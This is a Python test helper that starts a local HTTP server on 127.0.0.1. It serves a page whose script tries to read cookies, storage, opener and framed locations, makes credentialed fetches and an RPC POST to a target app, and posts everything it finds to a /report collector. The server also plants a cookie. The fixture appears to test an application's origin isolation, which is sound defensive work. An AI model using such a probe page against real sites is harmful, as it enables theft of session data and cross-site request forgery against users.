"""Another program of this machine that serves pages on a port of its own, and notes all that a browser sends it."""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from string import Template
from typing import Any

# The page tries what a page can, and reports what it has found.
_PAGE = Template(
    """<!doctype html><title>Eavesdropper</title><body><script>
const app = $app;
const tries = {
  cookie: () => document.cookie,
  referrer: () => document.referrer,
  opener: () => String(window.opener) + (window.opener ? window.opener.location.href : ""),
  address: () => location.href,
  name: () => window.name,
  storage: () => JSON.stringify([{...localStorage}, {...sessionStorage}]),
  page: async () => (await fetch(app + "/", {credentials: "include"})).text(),
  opaque: async () => (await fetch(app + "/", {credentials: "include", mode: "no-cors"})).url,
  call: async () => (await fetch(app + "/projects/x/rpc", {method: "POST", credentials: "include", body: "{}"})).text(),
  framed: () => new Promise((done) => {
    const frame = document.createElement("iframe");
    frame.src = app + "/";
    frame.onload = () => {
      try { done(frame.contentWindow.location.href); } catch (error) { done("refused: " + error); }
    };
    document.body.append(frame);
  }),
  window: () => new Promise((done) => {
    const opened = window.open(app + "/");
    setTimeout(() => {
      try { done(opened.location.href); } catch (error) { done("refused: " + error); }
    }, 500);
  }),
  worker: async () => (await navigator.serviceWorker.register(app + "/sw.js")).scope,
};
(async () => {
  const found = {};
  for (const [name, attempt] of Object.entries(tries)) {
    try { found[name] = String(await attempt()); } catch (error) { found[name] = "refused: " + error; }
  }
  await fetch("/report", {method: "POST", body: JSON.stringify(found)});
  document.title = "Reported";
})();
</script>"""
)


class Eavesdropper:
    """What was sent; `heard` has each request whole, `reports` what its pages found."""

    def __init__(self, app: str) -> None:
        self.heard: list[str] = []
        self.cookies: list[str] = []
        self.reports: list[dict[str, Any]] = []
        self.page = _PAGE.substitute(app=json.dumps(app)).encode()
        self.url = ""

    def everything(self) -> str:
        """All that it knows, as one text."""
        return "\n".join([*self.heard, json.dumps(self.reports)])


@contextmanager
def eavesdropping(app: str) -> Iterator[Eavesdropper]:
    """Serve on another port of 127.0.0.1; `app` is the address that its pages try to reach."""
    found = Eavesdropper(app)

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self._note(b"")
            self._answer(found.page)

        def do_POST(self) -> None:
            body = self.rfile.read(int(self.headers.get("content-length", 0)))
            self._note(body)
            if self.path == "/report":
                found.reports.append(json.loads(body))
            self._answer(b"")

        def _note(self, body: bytes) -> None:
            found.heard.append(f"{self.requestline}\n{self.headers}{body.decode()}")
            found.cookies += self.headers.get_all("cookie", [])

        def _answer(self, body: bytes) -> None:
            self.send_response(200)
            self.send_header("content-type", "text/html")
            # It may set cookies for the address, which all of its ports are sent.
            self.send_header("set-cookie", "hero_assistance_app=planted; path=/")
            self.send_header("content-length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: object) -> None:
            return

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    found.url = f"http://127.0.0.1:{server.server_port}"
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    try:
        yield found
    finally:
        server.shutdown()
        thread.join()
        server.server_close()
